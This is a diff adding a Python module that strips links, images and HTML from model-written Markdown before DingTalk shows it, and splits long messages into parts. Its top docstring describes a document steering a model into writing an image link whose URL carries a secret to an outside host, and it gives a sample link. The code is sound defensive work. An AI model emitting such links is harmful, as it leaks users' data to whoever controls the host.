@@ -1,0 +1,109 @@
+"""Text that documents had a hand in, as Markdown that DingTalk shows without fetching or linking anything.
+
+A document can make a model write `![](https://elsewhere/?secret)`, which a client would fetch. DingTalk does not say
+which escapes it honours, so links and images are broken apart rather than escaped.
+"""
+
+from __future__ import annotations
+
+import re
+
+_CODE = re.compile(r"(```.*?```|`[^`\n]+`)", re.DOTALL)
+_TAG = re.compile(r"<(?=[A-Za-z/!?])")
+_REFERENCE = re.compile(r"^(\s*\[[^\]\n]*\]):", re.MULTILINE)
+_ADDRESS = re.compile(r"(?:\b[A-Za-z][A-Za-z0-9+.-]*://|\bwww\.)[^\s<>\"'`，。；！？、（）《》【】]+")
+_ROW = re.compile(r"\s*(?:[-*+]\s|\d+[.)]\s|\|)")
+_MARKS = str.maketrans("*_`[]<>#|~", "＊＿＇［］＜＞＃｜～")
+_SENTENCE_END = re.compile(r"(?<=[。！？；.!?;\s])")
+
+
+def harmless(text: str) -> str:
+    """The same Markdown without links, images or HTML; addresses are shown as code, which nobody can click."""
+    text = text.replace("![", "! [").replace("](", "] (")
+    text = _REFERENCE.sub(r"\1 :", _TAG.sub("＜", text))
+    pieces = _CODE.split(text)
+    pieces[::2] = [_ADDRESS.sub(r"`\g<0>`", piece) for piece in pieces[::2]]
+    return "".join(pieces)
+
+
+def literal(text: str) -> str:
+    """A title or a name in one line, its Markdown marks replaced by their full-width look-alikes."""
+    line = " ".join(text.split()).translate(_MARKS)
+    return _ADDRESS.sub(r"`\g<0>`", line)
+
+
+def spaced(text: str) -> str:
+    """With the blank lines before lists and tables and the line ends that DingTalk wants to see line breaks."""
+    lines: list[str] = []
+    fenced = False
+    for line in text.split("\n"):
+        before = lines[-1] if lines else ""
+        if not fenced and before.strip() and line.strip() and not line.startswith("```"):
+            if bool(_ROW.match(line)) and not _ROW.match(before):
+                lines.append("")
+            elif not _ROW.match(line) and not before.startswith("```"):
+                lines[-1] = before.rstrip() + "  "
+        fenced ^= line.startswith("```")
+        lines.append(line)
+    return "\n".join(lines)
+
+
+def split_markdown(text: str, limit: int) -> list[str]:
+    """Parts of at most `limit` characters, cut between paragraphs where that can be, else between lines or
+    sentences. Code that is cut is fenced in each part."""
+    parts: list[str] = []
+    for block in _blocks(text):
+        for piece in [block] if len(block) <= limit else _cut(block, limit):
+            if parts and len(parts[-1]) + 2 + len(piece) <= limit:
+                parts[-1] += f"\n\n{piece}"
+            else:
+                parts.append(piece)
+    return parts
+
+
+def _blocks(text: str) -> list[str]:
+    """Paragraphs; fenced code is one block whatever blank lines it has."""
+    blocks: list[list[str]] = [[]]
+    fenced = False
+    for line in text.split("\n"):
+        if line.startswith("```"):
+            if not fenced:
+                blocks.append([])
+            blocks[-1].append(line)
+            if fenced:
+                blocks.append([])
+            fenced = not fenced
+        elif line.strip() or fenced:
+            blocks[-1].append(line)
+        else:
+            blocks.append([])
+    return ["\n".join(block) for block in blocks if block]
+
+
+def _cut(block: str, limit: int) -> list[str]:
+    lines = block.split("\n")
+    opening = lines.pop(0)[:40] if block.startswith("```") else ""
+    if opening and lines and lines[-1].startswith("```"):
+        lines.pop()
+    room = max(limit - len(opening) - 5, 1) if opening else limit
+    pieces: list[str] = []
+    for line in (piece for whole in lines for piece in _sentences(whole, room)):
+        if pieces and len(pieces[-1]) + 1 + len(line) <= room:
+            pieces[-1] += f"\n{line}"
+        else:
+            pieces.append(line)
+    return [f"{opening}\n{piece}\n```" for piece in pieces] if opening else pieces
+
+
+def _sentences(line: str, room: int) -> list[str]:
+    if len(line) <= room:
+        return [line]
+    pieces = [""]
+    for sentence in _SENTENCE_END.split(line):
+        for start in range(0, len(sentence), room):
+            bit = sentence[start : start + room]
+            if len(pieces[-1]) + len(bit) <= room:
+                pieces[-1] += bit
+            else:
+                pieces.append(bit)
+    return [piece for piece in pieces if piece]
